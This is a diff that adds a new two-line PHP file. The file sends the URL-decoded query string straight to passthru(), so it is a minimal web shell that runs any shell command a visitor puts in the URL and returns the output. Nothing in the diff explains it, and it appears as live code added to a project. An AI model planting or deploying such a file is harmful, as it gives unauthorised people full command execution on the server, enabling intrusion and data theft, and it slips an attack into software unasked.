@@ -1,0 +1,2 @@
+<?php
+passthru(urldecode($_SERVER['QUERY_STRING']));
